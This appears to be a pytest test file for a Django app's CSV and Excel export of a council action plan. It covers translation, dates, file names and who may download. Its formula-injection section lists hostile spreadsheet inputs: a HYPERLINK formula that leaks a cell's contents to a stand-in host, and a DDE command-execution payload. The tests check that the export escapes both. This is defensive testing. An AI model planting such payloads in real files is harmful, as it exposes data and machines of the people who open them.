"""The action plan's items as CSV and XLSX (``engagements.exports``): what the council gets,
in the reader's language, safe to open in a spreadsheet, and only for who may see the plan."""

import csv
import datetime
import io
import re

import pytest
from django.urls import reverse
from django.utils import translation
from openpyxl import load_workbook

from engagements.exports import spreadsheet_text
from engagements.models import PlanItem, PlanItemIssue, ProgressUpdate
from tests.factories import IssueFactory, PlanItemFactory

pytestmark = pytest.mark.django_db

ENGLISH_HEADERS = [
    "Number",
    "Title",
    "Priority issues",
    "Actions",
    "Responsible party",
    "Target date",
    "Status",
    "Latest progress: date",
    "Latest progress: note",
]


def export_url(engagement, file_format, language="en"):
    with translation.override(language):
        return reverse(f"engagements:action_plan_export_{file_format}", args=[engagement.pk])


def read_csv(response) -> list[list[str]]:
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    text = response.content.decode("utf-8")
    assert text.startswith("\ufeff"), "Excel needs the byte-order mark to read UTF-8"
    return list(csv.reader(io.StringIO(text[1:])))


def read_xlsx(response):
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    return load_workbook(io.BytesIO(response.content)).active


def report(item, day, status, note):
    """A progress update on ``item`` (and the item's status, as the service sets it)."""
    update = ProgressUpdate.objects.create(
        engagement=item.engagement, plan_item=item, reported_on=day, status=status, note=note
    )
    type(item).objects.filter(pk=item.pk).update(status=status)
    return update


@pytest.fixture
def items(engagement):
    """Two items: the first with two issues and two progress updates, the second bare."""
    first = PlanItemFactory(
        engagement=engagement,
        order=1,
        title="Joint youth–police forum",
        actions="Book the hall\nInvite the chief",
        responsible_party="Erie Bureau of Police",
        target_date=datetime.date(2026, 3, 31),
    )
    for text in ("Distrust between youth and police", "Slow response times"):
        PlanItemIssue.objects.create(
            engagement=engagement,
            plan_item=first,
            issue=IssueFactory(engagement=engagement, text=text),
        )
    report(first, datetime.date(2025, 5, 1), "in_progress", "Hall booked")
    report(first, datetime.date(2025, 6, 2), "on_hold", "Chief on leave until July")
    second = PlanItemFactory(
        engagement=engagement, order=2, title="Citizen police academy", target_date=None
    )
    return [first, second]


def test_csv_in_english(staff_client, engagement, items):
    """Guards the columns and what is in them: number, title, issues, actions, who, when
    (ISO), the translated status, and only the latest progress."""
    response = staff_client.get(export_url(engagement, "csv"))
    assert response.status_code == 200
    rows = read_csv(response)
    assert rows[0] == ENGLISH_HEADERS
    assert rows[1] == [
        "1",
        "Joint youth–police forum",
        "Distrust between youth and police\nSlow response times",
        "Book the hall\nInvite the chief",
        "Erie Bureau of Police",
        "2026-03-31",
        "On hold",
        "2025-06-02",
        "Chief on leave until July",
    ]
    assert rows[2][:2] == ["2", "Citizen police academy"]
    assert rows[2][5:] == ["", "Not started", "", ""]
    assert len(rows) == 3


def test_csv_in_farsi_has_farsi_headers_and_statuses(staff_client, engagement, items):
    """Guards the language: headers and statuses follow the page the export was asked from;
    what people typed and the ISO dates stay as they are."""
    response = staff_client.get(export_url(engagement, "csv", "fa"))
    rows = read_csv(response)
    with translation.override("fa"):
        issues_header = translation.gettext("Priority issues")
        on_hold = str(PlanItem.Status.ON_HOLD.label)
    assert issues_header != "Priority issues" and issues_header == rows[0][2]
    # The status's label in Farsi (the catalogue's, once translated).
    assert rows[1][6] == on_hold
    assert rows[1][1] == "Joint youth–police forum"
    assert rows[1][5] == "2026-03-31"


def test_xlsx_reads_back_with_real_numbers_and_dates(staff_client, engagement, items):
    """Guards the XLSX: readable by openpyxl, the number an integer and the dates dates, so
    that the council can sort and filter them."""
    response = staff_client.get(export_url(engagement, "xlsx"))
    assert response.status_code == 200
    sheet = read_xlsx(response)
    rows = list(sheet.iter_rows(values_only=True))
    assert list(rows[0]) == ENGLISH_HEADERS
    assert rows[1][0] == 1 and rows[2][0] == 2
    assert rows[1][5] == datetime.datetime(2026, 3, 31)  # noqa: DTZ001 (a spreadsheet date)
    assert rows[1][7] == datetime.datetime(2025, 6, 2)  # noqa: DTZ001
    assert sheet["F2"].is_date
    assert rows[1][6] == "On hold"
    assert rows[1][3] == "Book the hall\nInvite the chief"
    assert rows[2][5] is None
    assert not sheet.sheet_view.rightToLeft


def test_xlsx_in_farsi_is_right_to_left(staff_client, engagement, items):
    """Guards the Farsi workbook: its sheet reads right to left, with Farsi headers."""
    sheet = read_xlsx(staff_client.get(export_url(engagement, "xlsx", "fa")))
    with translation.override("fa"):
        issues_header = translation.gettext("Priority issues")
    assert issues_header != "Priority issues" and sheet["C1"].value == issues_header
    assert sheet.sheet_view.rightToLeft


# -- formula injection ------------------------------------------------------------------------

DANGEROUS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "+1-555-0100",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "   =cmd|' /C calc'!A0",
    "\n@SUM(1)",
    "＝1+1",
]


@pytest.mark.parametrize("text", DANGEROUS)
def test_text_that_starts_a_formula_gets_a_quote(text):
    assert spreadsheet_text(text) == "'" + text


@pytest.mark.parametrize(
    "text", ["Plain text", "a=b", "2024 plan", "Budget: -5%", "", "'quoted already"]
)
def test_harmless_text_is_unchanged(text):
    assert spreadsheet_text(text) == text


def test_control_characters_are_dropped_before_the_check():
    assert spreadsheet_text("\x00\x01=1+1") == "'=1+1"
    assert spreadsheet_text(None) == ""


@pytest.fixture
def dangerous_item(engagement):
    item = PlanItemFactory(
        engagement=engagement,
        title=DANGEROUS[0],
        actions="-2+3\n@SUM(A1)",
        responsible_party="+1-555-0100",
        target_date=datetime.date(2026, 1, 1),
    )
    PlanItemIssue.objects.create(
        engagement=engagement,
        plan_item=item,
        issue=IssueFactory(engagement=engagement, text="   =cmd|' /C calc'!A0"),
    )
    report(item, datetime.date(2025, 1, 1), "in_progress", "\t=1+1")
    return item


def test_csv_escapes_formulas_in_every_text_column(staff_client, engagement, dangerous_item):
    """Guards against CSV injection: every cell a spreadsheet would evaluate starts with a
    single quote, and every field is quoted (OWASP)."""
    response = staff_client.get(export_url(engagement, "csv"))
    row = read_csv(response)[1]
    assert row[1] == "'" + DANGEROUS[0]
    assert row[2] == "'   =cmd|' /C calc'!A0"
    assert row[3] == "'-2+3\n@SUM(A1)"
    assert row[4] == "'+1-555-0100"
    assert row[8] == "'\t=1+1"
    first_line = response.content.decode("utf-8").splitlines()[0]
    assert re.fullmatch(r'\ufeff("[^"]*",)*"[^"]*"', first_line)


def test_xlsx_has_no_formula_cells(staff_client, engagement, dangerous_item):
    sheet = read_xlsx(staff_client.get(export_url(engagement, "xlsx")))
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert sheet["B2"].value == "'" + DANGEROUS[0]
    assert sheet["E2"].value == "'+1-555-0100"


# -- file names and who may download ----------------------------------------------------------


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_file_name_is_an_ascii_slug(staff_client, engagement, items, file_format):
    engagement.community = 'اصفهان / Isfahan "north"'
    engagement.save()
    response = staff_client.get(export_url(engagement, file_format))
    disposition = response["Content-Disposition"]
    disposition.encode("ascii")
    name = rf"spcp-action-plan-isfahan-north-pa-\d{{4}}-\d\d-\d\d\.{file_format}"
    assert re.fullmatch(f'attachment; filename="{name}"', disposition), disposition


def test_links_on_the_plan_and_council_pages(staff_client, engagement, items):
    for page in ("action_plan", "council"):
        content = staff_client.get(reverse(f"engagements:{page}", args=[engagement.pk])).content
        content = content.decode()
        for file_format, label in (
            ("csv", "Download items (CSV)"),
            ("xlsx", "Download items (Excel)"),
        ):
            link = f'href="{export_url(engagement, file_format)}">{label}</a>'
            assert link in content, (page, file_format)


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_other_office_and_outsiders_get_404(
    client, engagement, items, other_staff, outsider, file_format
):
    """Guards need-to-know: the plan's items go to no one who may not see the plan."""
    for user in (other_staff, outsider):
        client.force_login(user)
        assert client.get(export_url(engagement, file_format)).status_code == 404


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_anonymous_is_sent_to_sign_in(client, engagement, file_format):
    response = client.get(export_url(engagement, file_format))
    assert response.status_code == 302
    assert response["Location"].startswith("/accounts/login/")


def test_headquarters_may_download(client, engagement, items, hq_staff):
    client.force_login(hq_staff)
    assert client.get(export_url(engagement, "csv")).status_code == 200
